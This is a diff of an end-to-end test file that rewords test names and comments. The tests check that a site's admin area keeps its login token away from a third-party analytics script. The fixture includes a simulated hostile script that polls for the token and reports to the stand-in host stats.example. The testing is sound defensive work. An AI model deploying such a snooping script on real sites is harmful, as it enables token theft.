@@ -3,13 +3,13 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createAdmin } from '../../graphql-server/test/admin';
 import { CLASS_DATE, createClass } from '../../graphql-server/test/classes';
 import { eventually } from '../../graphql-server/test/eventually';
-import { expectQuiet, type Journey, openJourney, type Visitor } from './journey';
+import { expectCleanConsole, type Journey, openJourney, type Visitor } from './journey';
 import { heading, previous, signInAsAdmin, walkToConfirm } from './steps';
 
 const SRC = 'https://stats.example/count.js';
 const PASSWORD = 'a long way to the sea';
 
-/** A script that is after the token: it looks every millisecond, and listens wherever a token may come by. */
+/** A hostile script that tries to read the token: it polls every millisecond and listens to every event that may carry one. */
 const SCRIPT = `(() => {
   const report = (event) => fetch('https://stats.example/' + event, { method: 'POST', mode: 'no-cors', keepalive: true, body: location.pathname });
   report('ran');
@@ -25,7 +25,7 @@ const SCRIPT = `(() => {
   addEventListener('pageshow', () => look());
 })();`;
 
-/** What the script reported, of whichever page: the address that it ran at, and the address that it saw a token at. */
+/** The reports of the script: the paths at which it ran, and the paths at which it saw a token. */
 type Reports = { ran: string[]; sawToken: string[] };
 
 let journey: Journey;
@@ -49,7 +49,7 @@ async function listen(context: BrowserContext): Promise<Reports> {
   return reports;
 }
 
-/** A visitor who agreed to the analytics earlier. */
+/** A visitor who accepted analytics earlier. */
 async function visit(): Promise<{ visitor: Visitor; page: Page; reports: Reports }> {
   const visitor = await journey.visit({ localStorage: { analyticsConsent: 'granted' } });
   return { visitor, page: visitor.page, reports: await listen(visitor.context) };
@@ -63,17 +63,17 @@ async function logIn(page: Page): Promise<void> {
   await heading(page).filter({ hasText: 'Welcome' }).waitFor();
 }
 
-/** Marks the document, so that another one can be told from it. */
+/** Marks the document, so that a reload can be detected. */
 const mark = (page: Page) => page.evaluate('window.isMarked = true');
 const isMarked = (page: Page) => page.evaluate<boolean>('Boolean(window.isMarked)');
 const hasScript = (page: Page) =>
   page.evaluate<boolean>(`Boolean(document.querySelector('script[src^="https://stats"]'))`);
-/** Until the page was reloaded: while that goes on it cannot be asked. */
+/** Polls, because a page cannot be evaluated while it reloads. */
 const untilReloaded = (page: Page) => eventually(async () => expect(await isMarked(page)).toBe(false));
 const ranOn = (reports: Reports, path: string) => eventually(async () => expect(reports.ran).toContain(path));
 
-describe('a document of the admin area', () => {
-  it('is another one than that of the public page before it and after it', async () => {
+describe('the admin area’s documents and the analytics script', () => {
+  it('the admin area never shares a document with a public page, so that the analytics script sees no token', async () => {
     const { visitor, page, reports } = await visit();
     await page.goto('/about-me');
     await ranOn(reports, '/about-me');
@@ -90,10 +90,10 @@ describe('a document of the admin area', () => {
     await logIn(page);
     expect(await hasScript(page)).toBe(false);
     expect(reports).toEqual({ ran: ['/about-me', '/'], sawToken: [] });
-    expectQuiet(visitor);
+    expectCleanConsole(visitor);
   });
 
-  it('is entered by a load of its own when a public page is led there', async () => {
+  it('a public page that is sent to the admin area loads a new document', async () => {
     const { visitor, page, reports } = await visit();
     await page.goto('/about-me');
     await ranOn(reports, '/about-me');
@@ -104,10 +104,10 @@ describe('a document of the admin area', () => {
     expect(await isMarked(page)).toBe(false);
     await logIn(page);
     expect(reports.sawToken).toEqual([]);
-    expectQuiet(visitor);
+    expectCleanConsole(visitor);
   });
 
-  it('may load no script of the analytics, as its policy says', async () => {
+  it('the Content-Security-Policy of the admin area forbids the analytics script', async () => {
     const getPolicy = async (path: string) => {
       const response = await fetch(journey.server.url + path, { headers: { accept: 'text/html' } });
       return response.headers.get('content-security-policy');
@@ -121,7 +121,7 @@ describe('a document of the admin area', () => {
 });
 
 describe('a device on which an admin is signed in', () => {
-  it('loads no analytics on public pages, also after consent, until the admin logs out', async () => {
+  it('a device with a signed-in admin loads no analytics on public pages until the admin logs out', async () => {
     const visitor = await signInAsAdmin(journey, { localStorage: { analyticsConsent: 'granted' } });
     const { page } = visitor;
     const reports = await listen(visitor.context);
@@ -139,7 +139,7 @@ describe('a device on which an admin is signed in', () => {
     expect(reports).toEqual({ ran: ['/about-me'], sawToken: [] });
   });
 
-  it('gets rid of the scripts of its open public pages before the token is stored', async () => {
+  it('open public pages reload without the analytics script before the admin’s token is stored', async () => {
     const { visitor, page, reports } = await visit();
     await page.goto('/about-me');
     await ranOn(reports, '/about-me');
@@ -154,10 +154,10 @@ describe('a device on which an admin is signed in', () => {
     await page.waitForLoadState('networkidle');
     expect([await hasScript(page), await hasScript(second)]).toEqual([false, false]);
     expect(reports).toEqual({ ran: ['/about-me', '/book/calendar'], sawToken: [] });
-    expectQuiet(visitor);
+    expectCleanConsole(visitor);
   });
 
-  it('reloads a public page that comes back from the back/forward cache', async () => {
+  it('a public page from the back/forward cache reloads without the analytics script while an admin is signed in', async () => {
     const { page, reports } = await visit();
     await page.goto('/about-me');
     await ranOn(reports, '/about-me');
@@ -169,7 +169,7 @@ describe('a device on which an admin is signed in', () => {
     expect(await hasScript(page)).toBe(false);
   });
 
-  it('reloads a page under a payment not before the payment is over', async () => {
+  it('a page with a running payment reloads without the analytics script only after the payment', async () => {
     const { page, reports } = await visit();
     await page.goto('/');
     await walkToConfirm(page, CLASS_DATE, /08:40/, /^Pay Now/);
